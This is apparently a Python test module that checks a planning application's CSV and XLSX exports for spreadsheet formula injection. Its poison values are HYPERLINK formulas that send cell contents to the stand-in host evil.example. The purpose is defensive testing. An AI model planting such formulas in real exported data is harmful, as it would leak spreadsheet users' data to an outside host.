"""Open data must not attack the resident who opens it: no cell of a CSV or XLSX runs as a formula."""

import csv
import io

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from projects.exports import DATASETS, FORMULA_TRIGGERS
from projects.models import Project, ProjectBudget, Unit
from strategies.models import Framework, Indicator, IndicatorTarget, Strategy, Tactic
from tests.security.conftest import PERIOD

# Every model whose text reaches an export.
EXPORTED_MODELS = [Project, ProjectBudget, Unit, Framework, Strategy, Tactic, Indicator, IndicatorTarget]


def _poison(trigger: str) -> set[str]:
    """Give every free-text field of every exported row a value that starts with ``trigger``."""
    written = set()
    for model in EXPORTED_MODELS:
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField) and not f.choices and not isinstance(f, models.SlugField)
        ]
        for obj in model.objects.all():
            for field in fields:
                value = f'{trigger}{obj.pk}+HYPERLINK("http://evil.example/?x="&C2,"คลิก")'
                value = value[: field.max_length] if field.max_length else value
                setattr(obj, field.name, value)
                written.add(value)
            obj.save(update_fields=[f.name for f in fields])
    return written


def _download(client, dataset, fmt):
    response = client.get(reverse("projects:export", kwargs={"org": "taimueang", "period": PERIOD, "dataset": dataset, "fmt": fmt}))
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("dataset", sorted(DATASETS))
@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_no_csv_cell_starts_with_a_formula_trigger(client, plan, dataset, trigger):
    written = _poison(trigger)
    text = _download(client, dataset, "csv").decode("utf-8").removeprefix("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    # The plan's text is still all there, behind the apostrophe that marks it as text.
    neutralised = [c for c in cells if c.startswith("'" + trigger)]
    assert neutralised
    assert {c[1:] for c in neutralised} <= written


@pytest.mark.parametrize("dataset", sorted(DATASETS))
@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_no_xlsx_cell_is_a_formula(client, plan, dataset, trigger):
    # A carriage return written raw into the XML is read back as a line feed (XML's rule);
    # written as &#13; it stays one. Which happens depends on openpyxl's XML writer.
    written = {v for value in _poison(trigger) for v in (value, value.replace("\r", "\n"))}
    trigger = (trigger, trigger.replace("\r", "\n"))
    sheet = load_workbook(io.BytesIO(_download(client, dataset, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    triggered = [c for c in cells if isinstance(c.value, str) and c.value.startswith(trigger)]
    assert triggered
    # Kept exactly as written, stored as text and marked so that editing the cell keeps it text.
    assert {c.value for c in triggered} <= written
    assert all(c.data_type == "s" and c.quotePrefix for c in triggered)


def test_numbers_stay_numbers_and_ordinary_text_is_untouched(client, plan):
    header, *rows = list(csv.reader(io.StringIO(_download(client, "projects", "csv").decode("utf-8")[1:])))
    names = {row[header.index("ชื่อโครงการ")] for row in rows}
    assert names == set(Project.objects.filter(edition=plan).values_list("name", flat=True))
    sheet = load_workbook(io.BytesIO(_download(client, "budgets", "xlsx"))).active
    amounts = [cell for row in sheet.iter_rows(min_row=2) for cell in row[4:5]]
    assert amounts and all(c.data_type == "n" and not c.quotePrefix for c in amounts)


@pytest.mark.parametrize("url", [f"/taimueang/plans/{PERIOD}/alignment.csv", "/taimueang/transparency/index.csv"])
@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_the_other_csv_downloads_are_neutralised_too(client, plan, url, trigger):
    _poison(trigger)
    plan.title = f"{trigger}HYPERLINK(\"http://evil.example/\")"
    plan.save(update_fields=["title"])
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").removeprefix("\ufeff"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert [c for c in cells if c.startswith("'" + trigger)]
